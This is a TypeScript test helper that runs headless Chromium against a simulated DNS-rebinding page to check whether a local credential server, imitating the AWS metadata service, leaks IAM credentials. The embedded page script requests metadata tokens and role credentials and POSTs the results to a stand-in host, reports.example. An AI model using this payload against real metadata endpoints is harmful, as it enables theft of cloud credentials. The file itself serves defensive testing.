/**
 * A page on the web that wants the credentials of whoever looks at it, in a real browser. Its name leads to its own server
 * at first and, once the page is loaded, to the port on 127.0.0.1 that it is after: what an attacker does with the answers
 * of his name server, a relay does here.
 */

import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { mkdtemp, rm } from 'node:fs/promises'
import { createServer as createHttpServer } from 'node:http'
import { type AddressInfo, connect, createServer, type Server } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'

/** What one request of the page came to: what it could read, or that it could read nothing. */
export interface Attempt {
  readonly what: string
  readonly outcome: string
}

const PAGE = `<!doctype html><script type="module">
const [, port, reports] = location.hash.match(/#(\\d+),(.*)/)
const attempts = []
const attempt = async (what, url, options) => {
  let outcome
  try {
    const reply = await fetch(url, options)
    outcome = reply.type === 'opaque' ? 'opaque' : reply.status + ' ' + await reply.text()
  } catch (error) {
    outcome = String(error)
  }
  attempts.push({ what, outcome })
  return outcome.replace(/^200 /, '')
}
const ttl = { 'x-aws-ec2-metadata-token-ttl-seconds': '60' }
const roles = '/latest/meta-data/iam/security-credentials/'
for (const [what, origin] of [['its own name', ''], ['the address', 'http://127.0.0.1:' + port], ['localhost', 'http://localhost:' + port]]) {
  const token = await attempt('token by ' + what, origin + '/latest/api/token', { method: 'PUT', headers: ttl })
  const headers = { 'x-aws-ec2-metadata-token': token.length < 100 ? token : 'x' }
  await attempt('credentials by ' + what, origin + roles + 'edge', { headers })
  await attempt('container credentials by ' + what, origin + '/credentials/edge', { headers: { authorization: 'x' } })
  await attempt('blind credentials by ' + what, origin + roles + 'edge', { mode: 'no-cors' })
}
await fetch(reports, { method: 'POST', mode: 'no-cors', body: JSON.stringify(attempts) })
</script>`

/** Lets the page loose on a port of 127.0.0.1, and gives what all its attempts came to. */
export async function visitHostilePage(port: number): Promise<Attempt[]> {
  let report: (attempts: Attempt[]) => void
  const reported = new Promise<Attempt[]>((resolve) => {
    report = resolve
  })
  let isLoaded = false
  const pages = createHttpServer((_, reply) => {
    isLoaded = true
    reply.writeHead(200, { 'content-type': 'text/html', connection: 'close' }).end(PAGE)
  })
  const reports = createHttpServer(async (request, reply) => {
    reply.end()
    if (request.method === 'POST') report(JSON.parse(await text(request)))
  })
  const relay = createServer((client) => {
    client.on('error', () => undefined)
    // A browser opens more connections than it has requests.
    client.once('data', (start) => {
      const upstream = connect(isLoaded ? port : portOf(pages), '127.0.0.1')
      upstream.on('error', () => client.destroy())
      client.on('close', () => upstream.destroy())
      upstream.write(start)
      client.pipe(upstream).pipe(client)
    })
  })
  for (const server of [pages, reports, relay]) await once(server.listen(0, '127.0.0.1'), 'listening')
  const profile = await mkdtemp(join(tmpdir(), 'holdfast-browser-'))
  const name = `evil.example:${port}`
  const browser = spawn(
    'chromium',
    [
      ...['--headless', '--no-sandbox', '--disable-gpu', '--disable-dev-shm-usage', '--no-first-run'],
      ...['--disable-background-networking', '--disable-component-update', '--disable-sync'],
      // Nothing but these names leads anywhere.
      `--host-resolver-rules=MAP ${name} 127.0.0.1:${portOf(relay)}, MAP reports.example 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost`,
      `--user-data-dir=${profile}`,
      `http://${name}/#${port},http://reports.example:${portOf(reports)}/`,
    ],
    { stdio: ['ignore', 'ignore', 'pipe'], detached: true },
  )
  try {
    return await Promise.race([reported, failing(browser)])
  } finally {
    await end(browser)
    for (const server of [pages, reports, relay]) server.close()
    pages.closeAllConnections()
    reports.closeAllConnections()
    await rm(profile, { recursive: true, force: true, maxRetries: 10 })
  }
}

function portOf(server: Server): number {
  return (server.address() as AddressInfo).port
}

/** Never comes back unless the browser ends, or says nothing for too long. */
async function failing(browser: ChildProcess): Promise<never> {
  let said = ''
  browser.stderr!.on('data', (chunk) => {
    said += chunk
  })
  const timer = setTimeout(() => browser.kill('SIGKILL'), 90_000)
  const [reason] = await once(browser, 'exit').catch((error) => [error])
  clearTimeout(timer)
  throw new Error(`chromium ended (${reason}) before the page had reported: ${said.slice(-2000)}`)
}

/** A browser is many processes. */
async function end(browser: ChildProcess): Promise<void> {
  if (browser.pid === undefined || browser.exitCode !== null || browser.signalCode !== null) return
  const ended = once(browser, 'close')
  process.kill(-browser.pid, 'SIGKILL')
  await ended
}
